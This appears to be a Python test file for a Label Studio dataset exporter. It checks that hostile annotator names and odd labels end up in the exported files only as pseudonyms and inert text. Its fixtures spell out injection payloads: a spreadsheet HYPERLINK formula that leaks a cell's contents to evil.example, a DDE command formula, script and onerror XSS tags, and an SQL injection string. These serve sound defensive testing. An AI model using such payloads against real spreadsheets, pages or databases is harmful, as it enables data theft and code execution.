"""Hostile annotators cannot reach the export's per-annotator answers (issue 18) as anything but a pseudonym.

Account e-mails and names are chosen by whoever signs up; annotation JSON is free text in Label Studio's API.
Fed straight into an export (past the pull's quarantine, which keeps such labels out in production): account
names holding markup, formulas, quotes, newlines and NUL become `ann-` + 12 hex digits and nothing else, odd
labels and severities neither add columns nor break a file, and the CSV quotes every formula. The real Label
Studio case (a hostile account posting odd JSON, then the export flow) is in test_reports.py.
"""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import pandas as pd
from warehouse_data import synthetic_workspace

from adversarial.test_reports import HOSTILE, audit_markdown
from smo_labelstudio.core.spec import load_spec
from smo_labelstudio.core.workspace import read_table, write_parquet
from smo_labelstudio.export import dataset as ex

REPO = Path(__file__).resolve().parents[2]
NAMES = {  # the synthetic workspace's accounts, renamed
    "a@x": '=HYPERLINK("http://evil.example/?"&A1,"click")@evil.example',
    "b@x": "<img src=x onerror=alert(1)>@x.example",
    "c@x": '"><script>alert(1)</script>\n+1,2;\x00@x.example',
}
ODD_LABELS = ["=cmd|' /C calc'!A0", HOSTILE[1], "soft_hate", "hate+harassment", ""]
PSEUDONYM = re.compile(r"ann-[0-9a-f]{12}")


def _hostile_workspace(root: Path):
    ws = synthetic_workspace(root)
    labels = read_table(ws.labels)
    labels["annotator"] = labels["annotator"].map(NAMES)
    odd = labels[labels["external_id"] == "t1"].iloc[[0]]
    extra = [odd.assign(label=label) for label in ODD_LABELS]
    extra += [odd.assign(control="severity", label=value) for value in ("high'); drop table x;--", HOSTILE[0], "2")]
    extra += [odd.assign(control=HOSTILE[2], label="hate", start=-5.0, end=1e12)]
    write_parquet(ws.labels, pd.concat([labels, *extra], ignore_index=True))
    annotations = read_table(ws.annotations)
    annotations["annotator"] = annotations["annotator"].map(NAMES)
    write_parquet(ws.annotations, annotations)
    return ws


def test_hostile_account_names_and_odd_answers_reach_the_export_only_as_pseudonyms(tmp_path):
    ws = _hostile_workspace(tmp_path / "home")
    out = tmp_path / "out"
    result = ex.export_workspace(ws, load_spec(REPO / "specs" / "example.yaml"), out, n_boot=10)
    rows = result.rows.set_index("external_id")
    sheet = result.sheet

    # every annotator field is a pseudonym; the same account has the same one in `annotators` and `answers`
    entries = [e for answers in rows["answers"] for e in answers]
    assert entries and all(PSEUDONYM.fullmatch(e["annotator"]) for e in entries)
    assert {e["annotator"] for e in entries} == {p for ps in rows["annotators"] for p in ps}
    key = ex.workspace_key(ws)
    assert {e["annotator"] for e in entries} == {ex.pseudonym(key, n) for n in NAMES.values()}

    # the odd answer counts as the text it is: no column of its own, one entry with every label as text
    assert sheet["disagreement"]["columns"] == ex.disagreement_columns(
        sheet["disagreement"]["policies"], sheet["disagreement"]["severity_levels"]
    )
    assert not any(c.startswith("soft_soft") or "=" in c or "<" in c for c in rows.columns)
    odd = next(e for e in rows.loc["t1", "answers"] if e["annotator"] == ex.pseudonym(key, NAMES["a@x"]))
    assert set(ODD_LABELS) - {""} <= set(odd["policies"]) and odd["severity"] == 2  # non-numbers ignored
    assert rows.loc["t1", "soft_hate"] == 1.0 and 0 <= rows.loc["t1", "soft_severity_2"] <= 1

    # every file reads back; no account name anywhere; the CSV quotes formulas; the datasheet stays inert
    jsonl = [json.loads(line) for line in (out / "dataset.jsonl").read_text(encoding="utf-8").splitlines()]
    parquet = pd.read_parquet(out / "dataset.parquet")
    with (out / "dataset.csv").open(encoding="utf-8", newline="") as f:
        flat = list(csv.DictReader(f))
    assert len(jsonl) == len(parquet) == len(flat) == len(rows)
    assert [json.loads(r["answers"]) for r in flat] == [r["answers"] for r in jsonl]
    assert not any(v.startswith(("=", "+", "-", "@")) for r in flat for v in r.values() if v)
    everything = "".join(f.read_text(encoding="utf-8", errors="replace") for f in out.iterdir())
    for name in NAMES.values():
        for part in (name, name.split("@")[0], "evil.example", "x.example"):
            assert part not in everything, part
    assert not audit_markdown((out / "datasheet.md").read_text(encoding="utf-8"))
